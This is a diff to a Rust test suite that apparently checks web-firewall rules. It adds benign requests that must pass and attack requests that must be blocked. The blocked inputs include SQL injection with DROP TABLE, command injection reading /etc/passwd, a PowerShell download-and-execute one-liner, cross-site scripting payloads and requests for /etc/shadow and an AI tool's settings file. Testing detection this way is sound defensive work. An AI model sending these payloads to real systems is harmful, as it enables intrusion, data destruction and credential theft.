@@ -89,6 +89,7 @@ fn realistic_benign_requests_pass() {
         ("GET", "/calendar?from=2024-01-01T00:00:00%2B01:00&to=2024-01-31", with(&[]), ""),
         ("GET", "/share?url=https%3A%2F%2Fexample.org%2Farticle%3Fid%3D42%26utm_source%3Dnews", with(&[]), ""),
         ("HEAD", "/health", with(&[]), ""),
+        ("GET", "/feed.xml", with(&[("Content-Length", "0")]), ""),
         ("OPTIONS", "/api/v1/orders", with(&[("Access-Control-Request-Method", "POST"), ("Origin", "https://app.example")]), ""),
         ("GET", "/", vec![("Host", "203.0.113.7:8443"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")], ""),
         ("GET", "/", vec![("Host", "[2001:db8::1]:443"), ("User-Agent", "Go-http-client/1.1")], ""),
@@ -107,6 +108,15 @@ fn realistic_benign_requests_pass() {
         ("GET", "/docs/getting-started", with(&[("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")]), ""),
         ("GET", "/.well-known/acme-challenge/abc123", with(&[]), ""),
         ("GET", "/wiki/Main_Page?action=edit&section=2", with(&[]), ""),
+        ("POST", "/snippets", with(&form), "code=%24%28document%29.ready%28function%28%29+%7B+if+%28a+%26%26+b%29+%7B+return+x%3B+%7D+%7D%29%3B&lang=js"),
+        ("POST", "/comments", with(&form), "comment=Run+%60npm+install%60+then+open+the+%27onboarding%27+page.+If+you+want+it+to+exist%2C+select+it+from+the+menu."),
+        ("POST", "/comments", with(&form), "comment=For+each+item+in+%28the+list%29+do+the+same.+What+if+not+defined%3F+50%25+of+us+don%27t+know."),
+        ("GET", "/search?q=how+to+alter+a+table+cloth&lang=en", with(&[("Cookie", "consent=\"necessary,analytics\"; lang=en")]), ""),
+        ("POST", "/comments", with(&form), "comment=Go+to+settings%3B+delete+from+the+cart+what+you+don%27t+need%3B+insert+into+the+slot%3B+replace+the+values%3B+create+user+accounts.+He+said+%27yes%27%3B"),
+        ("GET", "/list?tags%5B%5D=a&tags%5B%5D=b&sort%5Bname%5D=asc&items%5B0%5D%5Bqty%5D=2&path=%2Fusers%5B0%5D%2Fname", with(&[]), ""),
+        ("POST", "/comments", with(&form), "comment=Please+confirm+%28yes+or+no%29+and+we+will+prompt+%28soon%29+the+team.+Call+me+at+5pm."),
+        ("GET", "/docs?q=std%3A%3Avector%3A%3Aiterator+and+String%3A%3Afrom", with(&[]), ""),
+        ("POST", "/api/v1/tickets", with(&json), r#"{"subject":"Login fails","body":"After the update I get 'error 500' on /account/login. Tried Chrome & Firefox; cleared cookies; still broken.","priority":2}"#),
     ];
     let mut bad = Vec::new();
     for (method, uri, headers, body) in &cases {
@@ -151,6 +161,17 @@ fn plain_attacks_are_blocked() {
         ),
         ("/ping?host=%60id%60", "", 1900400),
         ("/users?name%5B%24ne%5D=x", "", 1900503),
+        ("/s?q=1%27%3B+INSERT+INTO+users+%28name%29+VALUES+%28%27x%27%29--", "", 1900501),
+        ("/s?cmd=cat+%2Fetc%2Fpa%5Bs%5Dswd", "", 1900401),
+        ("/s?cmd=powershell+-c+%22IEX%28New-Object+Net.WebClient%29.DownloadString%28%27http%3A%2F%2Fx%2Fa%27%29%22", "", 1900401),
+        ("/run?c=%26+for+%25a+in+%28a%2Cb%29+do+cmd", "", 1900403),
+        ("/q?s=x%22+onmouseover%3Dalert%281%29", "", 1900601),
+        (
+            "/f?file=.claude%2Fsettings.json&x=%2Fetc%2Fshadow",
+            "",
+            1900302,
+        ),
+        ("/item?id=1%27%3B+DROP+TABLE+users--", "", 1900501),
     ];
     for (uri, body, rule) in cases {
         let (blocked, fired) = run(&rules, "GET", uri, &h, body);
@@ -163,6 +184,17 @@ fn plain_attacks_are_blocked() {
     ];
     assert_eq!(run(&rules, "GET", "/", &scanner, "").0, 1900900);
     assert_eq!(run(&rules, "TRACE", "/", &h, "").0, 1900900);
+    let get_body = run(
+        &rules,
+        "GET",
+        "/",
+        &with(&[("Content-Length", "5")]),
+        "hello",
+    );
+    assert!(
+        get_body.0 == 1900900 && get_body.1.contains(&1900110),
+        "{get_body:?}"
+    );
     assert_eq!(
         run(
             &rules,
@@ -176,6 +208,18 @@ fn plain_attacks_are_blocked() {
     );
     let nul = run(&rules, "GET", "/a?x=a%00b", &h, "");
     assert!(nul.1.contains(&1900107), "{nul:?}");
+    let xml = [("Content-Type", "text/xml")];
+    let attr = run(
+        &rules,
+        "POST",
+        "/soap",
+        &with(&xml),
+        "<a probe=\"&lt;script&gt;alert(1)&lt;/script&gt;\"/>",
+    );
+    assert!(
+        attr.0 == 1900901 && attr.1.contains(&1900601),
+        "XML attribute: {attr:?}"
+    );
     let broken = run(
         &rules,
         "POST",
@@ -266,4 +310,19 @@ fn every_rule_is_documented_and_in_range() {
         }
     }
     assert!(n >= 25, "{n} rules");
+}
+
+/// The embedded files are plain printable ASCII: a stray control byte (an
+/// escape mangled while editing) would silently change a regex.
+#[test]
+fn builtin_files_are_printable_ascii() {
+    for (name, text) in rules::builtin::RULES {
+        for (i, line) in text.lines().enumerate() {
+            assert!(
+                line.bytes().all(|b| (b' '..=b'~').contains(&b)),
+                "{name}:{}: non-printable or non-ASCII byte",
+                i + 1
+            );
+        }
+    }
 }
